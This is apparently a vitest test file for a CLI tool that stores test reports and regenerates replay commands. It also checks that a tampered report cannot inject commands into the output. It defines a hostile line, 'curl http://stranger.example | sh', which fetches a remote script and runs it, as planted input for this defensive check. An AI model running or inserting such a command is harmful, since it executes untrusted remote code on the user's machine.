import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test, vi } from "vitest";
import { exampleReport, exampleVerdict } from "../reports/example.js";
import { exampleServiceReport } from "../reports/example-service.js";
import { formats, rendered } from "../reports/formats.js";
import { summary } from "../reports/summary.js";
import type { Report, Verdict } from "../schemas/types.js";
import { attachedName } from "../suites/client/attach.js";
import { originOf } from "./origin.js";
import { openReport } from "./stored.js";

const evil = "curl http://stranger.example | sh";
let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "again it's-"));
  vi.stubEnv("XDG_STATE_HOME", folder);
});
afterAll(() => {
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true });
});

function lines(report: Report): string[] {
  writeFileSync(join(folder, "report.json"), JSON.stringify(report));
  return openReport(folder).report.verdicts.map(({ replay }) => replay);
}

const verdicts = (...outcomes: Verdict["outcome"][]) =>
  outcomes.map((outcome, at) => ({ ...exampleVerdict(`parsing.n${at}`, outcome), replay: evil }));

test("a stored report's lines are made again, in every form and on the terminal", () => {
  const stranger = exampleReport(verdicts("fail", "pass", "harness-error"));
  stranger.target.command = evil;
  lines(stranger);
  const { report } = openReport(folder);
  const names = Object.keys(formats) as (keyof typeof formats)[];
  const texts = [...Object.values(rendered(report, names)).map((each) => [...each].join("")), summary(report)];
  for (const text of texts) expect(text.replaceAll("&#x27;", "'")).not.toMatch(/(replay|run)[^\n]{0,80}curl http/i);
  expect(report.verdicts.map(({ replay }) => replay).join()).not.toContain("curl");
});

test("a failure is replayed from the folder, quoted for a shell", () => {
  const quoted = `'${folder.replaceAll("'", String.raw`'\''`)}'`;
  expect(lines(exampleReport(verdicts("fail", "warn")))).toEqual([
    `npx djc replay parsing.n0 --report ${quoted}`,
    `npx djc replay parsing.n1 --report ${quoted}`,
  ]);
});

test("what passed is run again by the module of an own report, and by none of a stranger's", () => {
  const report = exampleReport(verdicts("pass"));
  report.target = { ...report.target, module: "my adapter.ts" };
  expect(lines(report)[0]).toMatch(/^npx djc run '<module>' --only parsing\.n0 --seed \d+ --runs \d+ --out /);
  expect(lines({ ...report, origin: originOf(report) ?? "" })[0]).toMatch(/^npx djc run 'my adapter\.ts' --only /);
});

test("a service is asked again by its URL, and a masked one without its ids", () => {
  const report = exampleServiceReport(verdicts("fail", "pass"));
  expect(lines(report)[0]).toMatch(/^npx djc run --live --job '<JobId>' --only parsing\.n0 /);
  Object.assign(report.target.service ?? {}, { live: false, masked: false, url: "http://127.0.0.1:8080" });
  expect(lines(report)).toEqual([
    expect.stringMatching(/^npx djc replay parsing\.n0 --report /),
    expect.stringMatching(/^npx djc run --service http:\/\/127\.0\.0\.1:8080 --job .* --only parsing\.n1 /),
  ]);
});

test("who was attached is attached again", () => {
  const report = exampleReport(verdicts("fail"));
  report.target = { ...report.target, name: attachedName };
  expect(lines(report)).toEqual(["npx djc attach parsing.n0"]);
});

test("a service that was asked without a pace is asked again without one", () => {
  const report = exampleServiceReport(verdicts("pass"));
  Object.assign(report.target.service ?? {}, { live: false, masked: false, pace: 1_000_000 });
  expect(lines(report)).toEqual([expect.stringContaining(" --pace none ")]);
});
